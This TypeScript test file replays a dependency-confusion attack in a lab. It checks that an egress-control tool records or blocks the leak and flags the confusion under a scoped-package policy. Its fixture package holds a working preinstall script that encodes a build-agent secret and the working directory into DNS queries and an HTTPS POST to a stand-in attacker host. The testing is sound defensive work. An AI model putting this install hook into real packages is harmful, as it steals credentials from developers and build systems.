// docs/incidents/dependency-confusion.md
import t from 'tap'
import { openLab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstallFrom, offer, project } from './npm-install.ts'
import { itIsTold, itWasStopped, itWorked, replay, type Incident } from './replay.ts'

t.setTimeout(240_000)

const everybodys = 'registry.npmjs.org'
const zone = 'x.attacker.test'
const collector = `collect.${zone}`
const secret = 'tidegate-replay-build-agent'
const label = Buffer.from(secret).toString('hex')

/**
 * Who and where it is, in names: a question needs no way out of its own. First by the machine's resolver, then by another;
 * and at last by HTTPS, where that is open.
 */
const preinstall = `const { Resolver, promises } = require('node:dns')
const { request } = require('node:https')
const own = new Resolver({ timeout: 1000, tries: 1 })
own.setServers(['203.0.113.53'])
const pieces = [process.env.AGENT_NAME, ...Array.from({ length: 60 }, (_, at) => process.cwd() + at)]
const names = pieces.map((piece, at) => Buffer.from(piece).toString('hex').slice(0, 60) + '.' + at + '.${zone}')
const quiet = () => {}
Promise.all(names.map(name => promises.resolve4(name).catch(quiet)))
  .then(() => new Promise(done => own.resolve4(names[0], done)))
  .then(() => {
    const call = request({ host: '${collector}', path: '/', method: 'POST', timeout: 5000 }, answer => answer.resume())
    call.on('error', quiet)
    call.end(process.env.AGENT_NAME)
  })
`

const packages = [
  {
    manifest: { name: 'acme-build-tools', version: '99.0.0', scripts: { preinstall: 'node index.js' } },
    files: [{ path: 'index.js', content: preinstall }],
  },
]

const allow = `allow:\n  - GET,HEAD ${everybodys}\n`

const incident: Incident<'install'> = {
  attacker: [`*.${zone}`],
  honest: [everybodys],
  spoils: [label, secret],
  policy: allow,
  env: { AGENT_NAME: secret },
  steps: {
    install: `${project({ name: 'shop', version: '1.0.0', dependencies: { 'acme-build-tools': '>=1' } })} && ${npmInstallFrom(everybodys)}`,
  },
}

/** The same under a policy that knows whose name it is. */
const informed = {
  ...incident,
  policy: `${allow}packages:\n  internal: [{ scope: "acme-*", from: npm.acme.test }]\n`,
}

t.test(
  'dependency confusion, 2021: a package that tells where it is in DNS questions, then by HTTPS',
  { skip: whyNoLab() },
  async t => {
    await using lab = await openLab()
    await offer(lab, packages, everybodys)
    const by = { exe: /\/node$/, parent: /\/(?:da)?sh$/, reason: 'no-rule' }
    const asked = { ...by, host: `${label}.0.${zone}`, named: '**.attacker.test', layer: 'dns' }

    await t.test('in audit: each question is told, and all of them together', async t => {
      const run = await replay(lab, incident, 'audit')
      await itWorked(t, lab, incident)
      itIsTold(t, run, { ...asked, verdict: 'observe' })
      itIsTold(t, run, { ...by, host: collector, verdict: 'observe', layer: 'http', method: 'POST' })
      t.match(run.findings, [{ kind: 'exfiltration-attempt' }])
    })
    await t.test('in block: no question leaves, whichever resolver is asked, and no request', async t => {
      const run = await replay(lab, incident, 'block')
      await itWasStopped(t, lab, incident)
      const outside = (await lab.dns.queries({ server: 'outside' })).map(({ name }) => name)
      t.strictSame(outside, [], 'other resolvers are not reached')
      itIsTold(t, run, { ...asked, verdict: 'deny' })
      t.match(run.findings, [{ kind: 'exfiltration-attempt' }])
      t.equal(run.step('install').exitCode, 0, run.step('install').stderr)
    })
    await t.test('where the policy knows the name: the cause is told in audit', async t => {
      const run = await replay(lab, informed, 'audit')
      await itWorked(t, lab, incident)
      t.match(
        run.findings.find(({ kind }) => kind === 'dependency-confusion'),
        { host: everybodys, note: /acme-build-tools/, process: /npm/ },
      )
    })
    await t.test('and in block nobody is asked for it: there is nothing to install', async t => {
      const run = await replay(lab, informed, 'block')
      await itWasStopped(t, lab, incident)
      t.not(run.step('install').exitCode, 0)
      t.strictSame(
        (await lab.origins.requests({ host: everybodys })).map(({ path }) => path),
        [],
      )
      t.match(
        run.lines.find(({ layer, host }) => layer === 'http' && host === everybodys),
        { verdict: 'deny', reason: 'denied-by-rule', rule: /^packages\.internal\[0\]/ },
      )
      t.ok(run.findings.some(({ kind }) => kind === 'dependency-confusion'))
    })
  },
)
